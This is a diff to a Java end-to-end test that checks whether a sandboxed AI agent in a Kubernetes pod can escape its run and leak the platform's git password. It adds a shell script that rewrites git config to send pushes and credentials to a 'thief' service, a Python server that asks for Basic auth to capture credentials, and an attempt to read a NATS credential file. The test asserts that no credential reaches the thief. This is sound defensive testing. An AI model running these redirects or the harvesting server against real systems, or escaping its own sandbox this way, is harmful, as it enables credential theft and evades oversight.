@@ -18,13 +18,14 @@ import java.util.Map;
 import java.util.Set;
 import java.util.TreeMap;
 import java.util.TreeSet;
+import java.util.concurrent.TimeUnit;
 import java.util.regex.MatchResult;
 import java.util.regex.Pattern;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 
-/** An agent in a pod that tries to get out of its run. Each list is tried within the walls and without them. */
+/** An agent in a pod that tries to get out of its run. The list is tried within the walls and without them. */
 final class HostileE2E {
     /** The last line is the prompt's: a run that waits says where it is, another one makes the attempts. */
     private static final String PROGRAM =
@@ -35,6 +36,38 @@ final class HostileE2E {
               stay) setsid sleep 7357 & echo left ;;
               *) exec python3 -I -c "$HOSTILE" $attempts ;;
             esac
+            """;
+
+    private static final String GIT_SERVER = "http://git." + Platform.DEMO + ".svc/";
+    /** Settings by which git would go elsewhere; the namespace of the thief, and the server that is meant. */
+    private static final String REDIRECTS =
+            """
+            thief=http://thief.%1$s.svc/
+            for scope in --global --local; do
+              git config $scope "url.${thief}.insteadOf" %2$s
+              git config $scope "url.${thief}.pushInsteadOf" %2$s
+              git config $scope remote.origin.pushurl "${thief}demo/greeter.git"
+              git config $scope lfs.url "${thief}lfs"
+              git config $scope http.proxy "${thief}"
+              git config $scope credential.helper "store --file=$HOME/stolen"
+            done
+            git remote set-url origin "${thief}demo/greeter.git"
+            date >written-by-the-agent
+            """;
+
+    private static final String THIEF =
+            """
+            import http.server
+            class Thief(http.server.BaseHTTPRequestHandler):
+                def do_GET(self):
+                    print(self.path, self.headers, flush=True)
+                    self.send_response(401)
+                    self.send_header("WWW-Authenticate", 'Basic realm="git"')
+                    self.send_header("Content-Length", "0")
+                    self.end_headers()
+                do_POST = do_GET
+            print("listens", flush=True)
+            http.server.ThreadingHTTPServer(("", 8080), Thief).serve_forever()
             """;
 
     private static final Pattern WAITS = Pattern.compile("waits in (\\S+) as (\\d+) of (\\d+)");
@@ -95,6 +128,104 @@ final class HostileE2E {
         final Platform.Kubectl processes =
                 platform.kubectl("exec", pod, "--container", "worker", "--", "sh", "-c", "cat /proc/[0-9]*/cmdline");
         assertThat(processes.output()).contains("tini\0").doesNotContain("sleep\0");
+    }
+
+    @Test
+    void thePasswordOfGitIsForItsServerAlone() throws Exception {
+        final Map<String, String> credential = platform.client
+                .secrets()
+                .inNamespace(Platform.DEMO)
+                .withName("demo-git")
+                .require()
+                .getData();
+        final String branch = "hostile-" + platform.namespace;
+        platform.create(
+                """
+                apiVersion: v1
+                kind: Secret
+                metadata: {name: of-the-git-server}
+                data: {username: %s, password: %s}
+                ---
+                apiVersion: codeforge.dev/v1alpha1
+                kind: WorkerPool
+                metadata: {name: redirects}
+                spec:
+                  backend: command
+                  subject: tasks.%s.redirects
+                  deletionPolicy: Delete
+                  scaling: {minReplicas: 0, maxReplicas: 1}
+                  taskDefaults: {runTimeoutSeconds: 60}
+                  git: {credentials: [{url: "%s", secretRef: {name: of-the-git-server}}]}
+                  template: {spec: {containers: [{name: worker, args: [run, --, sh, -c, %s]}]}}
+                """
+                        .formatted(
+                                credential.get("username"),
+                                credential.get("password"),
+                                platform.namespace,
+                                GIT_SERVER,
+                                literal(REDIRECTS.formatted(platform.namespace, GIT_SERVER))));
+        platform.awaitReady("redirects", "ScaledToZero");
+        thief(platform.client
+                .apps()
+                .deployments()
+                .inNamespace(platform.namespace)
+                .withName("redirects-workers")
+                .require()
+                .getSpec()
+                .getTemplate()
+                .getSpec()
+                .getContainers()
+                .getFirst()
+                .getImage());
+        platform.task(
+                "task",
+                "redirects",
+                "workspace: {git: {url: '%sdemo/greeter.git', push: {branch: %s}}}".formatted(GIT_SERVER, branch));
+        final AgentTaskStatus status = platform.awaitFinished("task");
+        assertThat(status.phase()).as("%s", status.error()).isEqualTo(Phase.Succeeded);
+        final String thief = platform.client
+                .pods()
+                .inNamespace(platform.namespace)
+                .withName("thief")
+                .getLog();
+        assertThat(thief).contains("listens").doesNotContain("Authorization");
+        final Platform.Kubectl pushed = platform.kubectl(
+                "--namespace=" + Platform.DEMO,
+                "exec",
+                "deployment/git",
+                "--",
+                "git",
+                "-C",
+                "/srv/git/demo/greeter.git",
+                "rev-parse",
+                "refs/heads/" + branch);
+        assertThat(pushed.output().strip()).isEqualTo(status.result().git().commit());
+    }
+
+    /** A server that asks everybody for a password, and keeps what it is given. */
+    private void thief(String image) throws Exception {
+        platform.create(
+                """
+                apiVersion: v1
+                kind: Service
+                metadata: {name: thief}
+                spec: {selector: {app: thief}, ports: [{port: 80, targetPort: 8080}]}
+                ---
+                apiVersion: v1
+                kind: Pod
+                metadata: {name: thief, labels: {app: thief}}
+                spec:
+                  securityContext: {runAsNonRoot: true, runAsUser: 10001, seccompProfile: {type: RuntimeDefault}}
+                  containers:
+                    - name: thief
+                      image: "%s"
+                      imagePullPolicy: IfNotPresent
+                      command: [python3, -u, -c, %s]
+                      readinessProbe: {tcpSocket: {port: 8080}, periodSeconds: 1}
+                      securityContext: {allowPrivilegeEscalation: false, capabilities: {drop: [ALL]}}
+                """
+                        .formatted(image, literal(THIEF)));
+        platform.client.pods().inNamespace(platform.namespace).withName("thief").waitUntilReady(60, TimeUnit.SECONDS);
     }
 
     private void pool(String name, String isolation) throws Exception {
@@ -194,6 +325,7 @@ final class HostileE2E {
                 "the folders of all runs:names=/workspace",
                 "the password of git:read=/run/codeforge/git/0/password",
                 "the password of git by a link:by_link=/run/codeforge/git/0/password",
+                "the pool's credential in NATS:read=/run/codeforge/nats/nats.creds",
                 "NATS:tcp=" + nats + ":4222",
                 "NATS by MPTCP:mptcp=" + nats + ":4222",
                 "NATS by fast open:fast_open=" + nats + ":4222",
